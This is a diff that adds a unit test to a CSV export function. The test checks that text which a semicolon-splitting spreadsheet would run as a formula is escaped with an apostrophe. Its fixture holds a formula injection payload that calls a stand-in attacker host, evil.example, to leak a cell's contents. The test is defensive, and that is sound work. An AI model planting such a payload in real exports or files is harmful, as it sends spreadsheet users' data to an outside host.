@@ -296,6 +296,22 @@ def test_csv_text_a_spreadsheet_would_run_gets_an_apostrophe_numbers_do_not() ->
     assert render([{"title": "Fix = sign"}], "csv", ["title"]) == "title\r\nFix = sign\r\n"
 
 
+def test_csv_text_a_semicolon_spreadsheet_would_split_into_a_formula_is_quoted() -> None:
+    """Spreadsheets in much of Europe split CSV lines at ";", quotes or not: a title such
+    as ``Fix;=HYPERLINK(...)`` ran its second part as a formula there. An apostrophe
+    after the ";" makes it text."""
+    rows = [{"title": 'Fix login;=HYPERLINK("https://evil.example/?"&A2);', "iid": 7}]
+    text = render(rows, "csv", ["iid", "title"])
+    assert text is not None
+    [_, line] = text.splitlines()
+    as_semicolon_list = next(csv.reader(io.StringIO(line), delimiter=";"))
+    assert not any(cell.startswith("=") for cell in as_semicolon_list), as_semicolon_list
+    expected = 'Fix login;\'=HYPERLINK("https://evil.example/?"&A2);'
+    assert list(csv.reader(io.StringIO(text)))[1] == ["7", expected]
+    plain = render([{"title": "a;b; c;-", "iid": 8}], "csv", ["iid", "title"])
+    assert plain == "iid,title\r\n8,a;b; c;'-\r\n"
+
+
 def test_invalid_configuration_is_a_clear_error(tmp_path: Path) -> None:
     result = CliRunner().invoke(main, ["ledger"], env={"SECLEDGER_PORT": "not-a-port"})
     assert result.exit_code == 1
